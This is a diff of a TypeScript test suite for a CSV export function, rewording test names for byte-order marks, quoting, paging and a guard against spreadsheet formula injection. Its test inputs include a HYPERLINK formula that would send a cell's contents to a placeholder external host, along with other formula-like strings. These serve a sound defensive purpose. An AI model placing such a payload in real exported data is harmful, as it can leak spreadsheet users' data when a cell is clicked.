@@ -17,21 +17,21 @@ const columns: readonly CsvColumn<Row>[] = ['first', 'second'].map((name, index)
 const whole = { isFirst: true, maxBytes: Infinity };
 const rest = { isFirst: false, maxBytes: Infinity };
 
-/** Read by a parser that knows nothing of the writer. */
+/** Parses with a library that shares no code with the writer. */
 const read = (text: string) => parse(text, { bom: true });
 
 describe('a file', () => {
-  test('begins with the mark of UTF-8 and a header, and ends each line as RFC 4180 says', () => {
+  test('starts with a byte order mark and a header, and ends each line as RFC 4180 requires', () => {
     const { text } = csvPart(columns, [['Zoë', '東京']], whole);
     expect(text).toBe('\ufeff"first","second"\r\n"Zoë","東京"\r\n');
   });
 
-  test('keeps commas, quotation marks and line ends within their cell', () => {
+  test('keeps commas, quotation marks, and line ends within their cell', () => {
     const row = ['Bücher; "Söhne", Inc.', 'one\r\ntwo'];
     expect(read(csvPart(columns, [row], whole).text)).toEqual([['first', 'second'], row]);
   });
 
-  test('leaves empty what is not there', () => {
+  test('has an empty cell for a missing value', () => {
     expect(csvPart(columns, [['a'], ['', 'b']], rest).text).toBe('"a",\r\n,"b"\r\n');
   });
 
@@ -44,13 +44,13 @@ describe('a file', () => {
     expect(parts.map(({ text }) => text).join('')).toBe(csvPart(columns, rows, whole).text);
   });
 
-  test('of nothing is a header, and then nothing', () => {
+  test('without rows has a header and nothing else', () => {
     expect(csvPart(columns, [], whole)).toEqual({ text: '\ufeff"first","second"\r\n', rows: 0 });
     expect(csvPart(columns, [], rest)).toEqual({ text: '', rows: 0 });
   });
 });
 
-describe('what a spreadsheet would calculate', () => {
+describe('a cell that a spreadsheet would calculate', () => {
   test.each([
     '=HYPERLINK("http://x.example?"&A1,"Click")',
     '+44 20 7946 0123',
@@ -67,7 +67,7 @@ describe('what a spreadsheet would calculate', () => {
     '\u200b=1+1',
     '"=1+1"',
     ' "" =1+1',
-  ])('is a text: %j', (value) => {
+  ])('becomes text: %j', (value) => {
     const [[cell = ''] = []] = read(csvPart(columns, [[value]], rest).text);
     expect(cell.replace("\t'=", '\t=').replace(/([\r\n])'=/, '$1=')).toBe(`'${value}`);
     expect(unguarded(cell)).toBe(value);
@@ -84,7 +84,7 @@ describe('what a spreadsheet would calculate', () => {
     ['one\n=1', "one\n'=1"],
     ['one\r\n- two', "one\r\n'- two"],
     ["a;'=1", "a;''=1"],
-  ])('is a text whichever separator the spreadsheet splits at: %j', (value, shown) => {
+  ])('becomes text with any separator of the spreadsheet: %j', (value, shown) => {
     const [[cell = ''] = []] = read(csvPart(columns, [[value]], rest).text);
     expect(cell).toBe(shown);
     expect(unguarded(cell)).toBe(value);
@@ -101,12 +101,12 @@ describe('what a spreadsheet would calculate', () => {
     '5" - 6"',
     "' ",
     '2030-01-01T12:00:00.000Z',
-  ])('is not what else there is: %j', (value) => {
+  ])('is not one of these: %j', (value) => {
     expect(read(csvPart(columns, [[value]], rest).text)).toEqual([[value, '']]);
   });
 });
 
-/** Every sign that means something to whoever reads cells, and some that mean nothing. */
+/** All characters with a meaning to spreadsheets, and a few without. */
 const SIGNS = [
   '"',
   ',',
@@ -127,7 +127,7 @@ const SIGNS = [
   '\u200b',
   '\0',
 ];
-/** Texts of anything, with much of what a file of cells gives a meaning to. */
+/** Any text, with many characters that have a meaning in a CSV file. */
 const cell = fc.oneof(
   fc.string({ unit: 'grapheme' }),
   fc.string({ unit: fc.constantFrom(...SIGNS) }),
@@ -135,8 +135,8 @@ const cell = fc.oneof(
 const rowsOfCells = fc.array(fc.tuple(cell, cell), { minLength: 1 });
 
 /**
- * Reads a file as a spreadsheet does that is told other separators than the writer used: a cell that begins with a quotation
- * mark lasts until the next single one, and what follows up to the separator belongs to it too.
+ * Parses a file like a spreadsheet that is set to other separators than the writer's. A cell that starts with a
+ * quotation mark lasts until the next single one, and any text after that up to the separator belongs to it, too.
  */
 function cellsSplitAt(text: string, separators: string, quotes: boolean): string[] {
   const cells: string[] = [];
@@ -157,8 +157,8 @@ function cellsSplitAt(text: string, separators: string, quotes: boolean): string
   return cells;
 }
 
-describe('whatever text there is', () => {
-  test('it is read as it was written', () => {
+describe('any text', () => {
+  test('is read as it was written', () => {
     fc.assert(
       fc.property(rowsOfCells, (rows) => {
         const [header, ...found] = read(csvPart(columns, rows, whole).text);
@@ -168,7 +168,7 @@ describe('whatever text there is', () => {
     );
   });
 
-  test('no cell is a formula, whichever separators a spreadsheet splits at, and whatever it skips', () => {
+  test('is not a formula in any cell, for any separators and any characters that a spreadsheet skips', () => {
     fc.assert(
       fc.property(
         rowsOfCells,
@@ -187,7 +187,7 @@ describe('whatever text there is', () => {
     );
   });
 
-  test('the guard comes off exactly, however many apostrophes there were', () => {
+  test('is restored exactly after the guard is removed, with any number of apostrophes', () => {
     fc.assert(
       fc.property(cell, (text) => {
         expect(unguarded(guarded(text))).toBe(text);
@@ -198,7 +198,7 @@ describe('whatever text there is', () => {
   });
 
   test.each(['"', ' ', "'", ";'", ';"', '\n'])(
-    'a long one of %j takes no longer than its length',
+    'of many %j takes time in proportion to its length',
     (unit) => {
       const began = performance.now();
       unguarded(guarded(unit.repeat(300_000)));
@@ -207,17 +207,17 @@ describe('whatever text there is', () => {
   );
 });
 
-describe('a part that would grow too large', () => {
+describe('a part that would become too large', () => {
   const rows = Array.from({ length: 5 }, () => ['ä'.repeat(20), 'x']);
   const lineBytes = Buffer.byteLength(csvPart(columns, rows.slice(0, 1), rest).text);
 
-  test('stops before the row that does not fit, and tells how far it came', () => {
+  test('ends before the row that does not fit, and says how far it got', () => {
     const part = csvPart(columns, rows, { isFirst: false, maxBytes: 3 * lineBytes });
     expect(part.rows).toBe(3);
     expect(Buffer.byteLength(part.text)).toBe(3 * lineBytes);
   });
 
-  test('has one row at least, so that whoever goes on comes to an end', () => {
+  test('has at least one row, so that paging always ends', () => {
     expect(csvPart(columns, rows, { isFirst: true, maxBytes: 1 }).rows).toBe(1);
   });
 });
